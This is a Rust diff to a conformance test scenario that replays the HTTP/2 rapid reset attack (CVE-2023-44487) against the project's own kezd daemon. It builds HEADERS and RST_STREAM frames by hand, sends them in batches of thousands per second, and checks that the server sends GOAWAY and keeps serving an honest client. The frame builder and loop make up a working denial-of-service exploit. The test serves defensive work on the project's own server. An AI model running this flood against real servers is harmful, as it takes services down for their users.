@@ -1,15 +1,16 @@
-//! HTTP/2 rapid reset (CVE-2023-44487): one connection opens streams and cancels each at once
-//! with `RST_STREAM`, thousands per second, so the server starts work for requests that cost
+//! HTTP/2 rapid reset (CVE-2023-44487): one connection (h2c, prior knowledge) opens streams
+//! and cancels each at once with `RST_STREAM`, thousands per second, so the server starts work for requests that cost
 //! the attacker nothing and never count against its stream limit. kezd (hyper and h2 under it)
 //! must bound that work — typically by `GOAWAY` with `ENHANCE_YOUR_CALM` — while an honest
 //! client on another address is answered promptly and memory stays within a loose bound.
 
 use std::time::Duration;
 
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::time::Instant;
 
 use crate::daemon::Daemon;
-use crate::observe::memory_kib;
+use crate::observe::{memory_kib, scrape};
 use crate::scenario::{Env, Outcome, RunFuture, Scenario};
 use crate::wire::{self, ATTACKER, HONEST, Reply};
 use kez_conformance::{Fail, fail};
@@ -25,6 +26,8 @@ pub const SCENARIO: Scenario = Scenario {
 
 /// Streams opened and reset, at most, and for at most this long.
 const RESETS: usize = 20_000;
+/// HEADERS + RST_STREAM pairs per write.
+const BATCH: usize = 100;
 const ATTACK_FOR: Duration = Duration::from_secs(8);
 
 /// Honest requests during the attack, and the bound on each.
@@ -44,30 +47,46 @@ async fn attack(env: Env) -> Outcome {
     let stream = wire::connect_from(ATTACKER, daemon.addr(), None)
         .await
         .map_err(|e| Fail::Fail(format!("connecting: {e}")))?;
-    let (client, connection) = h2::client::handshake(stream)
-        .await
-        .map_err(|e| Fail::Fail(format!("HTTP/2 handshake: {e}")))?;
-    let connection = tokio::spawn(connection);
-    let uri = format!("http://{}/v1/healthz", daemon.host());
+    let (mut reader, mut writer) = stream.into_split();
+    // The server's frames are read and dropped, except GOAWAY, whose error code is kept; the
+    // read ends when kezd closes the connection.
+    let server_side = tokio::spawn(async move {
+        let mut buffer = Vec::new();
+        let mut chunk = vec![0u8; 16 * 1024];
+        let mut goaway = None;
+        while let Ok(n) = reader.read(&mut chunk).await {
+            if n == 0 {
+                break;
+            }
+            buffer.extend_from_slice(&chunk[..n]);
+            while let Some((kind, payload, used)) = frames::parse(&buffer) {
+                if kind == 0x7 && payload.len() >= 8 {
+                    goaway = Some(u32::from_be_bytes([
+                        payload[4], payload[5], payload[6], payload[7],
+                    ]));
+                }
+                buffer.drain(..used);
+            }
+        }
+        goaway
+    });
+    let authority = daemon.host();
     let attacker = tokio::spawn(async move {
         let started = Instant::now();
-        let mut client = client;
         let mut reset = 0usize;
+        let mut batch = frames::preface();
         while reset < RESETS && started.elapsed() < ATTACK_FOR {
-            client = match tokio::time::timeout(ATTACK_FOR, client.ready()).await {
-                Ok(Ok(ready)) => ready,
-                // The server ended the connection (GOAWAY) or stopped granting streams.
-                _ => break,
-            };
-            let Ok(request) = http::Request::get(uri.as_str()).body(()) else {
+            for _ in 0..BATCH {
+                // Client stream ids are odd, increasing.
+                let id = u32::try_from(2 * reset + 1).unwrap_or(u32::MAX);
+                batch.extend_from_slice(&frames::headers(id, "/v1/healthz", &authority));
+                batch.extend_from_slice(&frames::rst_stream(id));
+                reset += 1;
+            }
+            if writer.write_all(&batch).await.is_err() {
                 break;
-            };
-            let Ok((response, mut send)) = client.send_request(request, false) else {
-                break;
-            };
-            send.send_reset(h2::Reason::CANCEL);
-            drop(response);
-            reset += 1;
+            }
+            batch.clear();
         }
         (reset, started.elapsed())
     });
@@ -92,18 +111,35 @@ async fn attack(env: Env) -> Outcome {
     let (reset, took) = attacker
         .await
         .map_err(|e| Fail::Fail(format!("attacker task: {e}")))?;
-    let ended = if connection.is_finished() {
-        match connection.await {
-            Ok(Err(e)) => format!("kezd ended the connection ({e})"),
-            _ => "kezd ended the connection".to_owned(),
+    let ended = if server_side.is_finished() {
+        match server_side.await {
+            Ok(Some(code)) => {
+                // A protocol or compression error would mean the attack's own frames were
+                // wrong, and the scenario proved nothing.
+                if code == 0x1 || code == 0x9 {
+                    fail!("kezd answered GOAWAY {code:#x}: the attack's frames are malformed");
+                }
+                format!("kezd sent GOAWAY {code:#x} and closed the connection")
+            }
+            _ => "kezd closed the connection".to_owned(),
         }
     } else {
-        connection.abort();
+        server_side.abort();
         "the connection stayed open".to_owned()
     };
     let (rss_after, hwm) = memory_kib(daemon.pid())?;
+    // How many of the reset streams reached kezd's service (the honest requests included).
+    let served: f64 = scrape(daemon.observer())
+        .await?
+        .lines()
+        .filter(|line| line.starts_with("kezd_http_requests_total{route=\"/v1/healthz\""))
+        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
+        .sum();
     let figures = vec![
-        format!("{reset} streams opened and reset in {took:?}; {ended}"),
+        format!(
+            "{reset} streams opened and reset in {took:?}; {ended}; kezd's service saw {served} \
+             requests to /v1/healthz"
+        ),
         format!("honest from {HONEST}: {HONEST_REQUESTS} answered, slowest {slowest:?}"),
         format!("RSS {rss_before} → {rss_after} KiB, peak {hwm} KiB"),
     ];
@@ -116,4 +152,53 @@ async fn attack(env: Env) -> Outcome {
     }
     daemon.check_alive().await?;
     Ok(figures)
+}
+
+/// The few HTTP/2 frames the attack writes (RFC 9113), by hand: a client library would not
+/// send a stream's reset in the same write as its headers.
+mod frames {
+    /// The connection preface and an empty SETTINGS frame.
+    pub fn preface() -> Vec<u8> {
+        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        bytes.extend_from_slice(&frame(0x4, 0, 0, &[]));
+        bytes
+    }
+
+    /// HEADERS (END_STREAM | END_HEADERS) for `GET http://<authority><path>`: HPACK indexed
+    /// `:method GET` and `:scheme http`, then `:path` and `:authority` as literals without
+    /// indexing, so the server's HPACK table never grows.
+    pub fn headers(stream: u32, path: &str, authority: &str) -> Vec<u8> {
+        let mut block = vec![0x82, 0x86];
+        for (index, value) in [(0x04u8, path), (0x01, authority)] {
+            block.push(index);
+            // Both values are short (< 127 bytes): one length byte, no Huffman coding.
+            block.push(u8::try_from(value.len()).unwrap_or(0x7f).min(0x7e));
+            block.extend_from_slice(value.as_bytes());
+        }
+        frame(0x1, 0x1 | 0x4, stream, &block)
+    }
+
+    /// RST_STREAM with CANCEL.
+    pub fn rst_stream(stream: u32) -> Vec<u8> {
+        frame(0x3, 0, stream, &0x8u32.to_be_bytes())
+    }
+
+    /// The first whole frame in `bytes`: its type, its payload, and the bytes it takes.
+    pub fn parse(bytes: &[u8]) -> Option<(u8, &[u8], usize)> {
+        let header = bytes.get(..9)?;
+        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
+        let end = 9 + usize::try_from(length).ok()?;
+        Some((header[3], bytes.get(9..end)?, end))
+    }
+
+    fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
+        let mut bytes = Vec::with_capacity(9 + payload.len());
+        bytes.extend_from_slice(&length[1..]);
+        bytes.push(kind);
+        bytes.push(flags);
+        bytes.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
+        bytes.extend_from_slice(payload);
+        bytes
+    }
 }
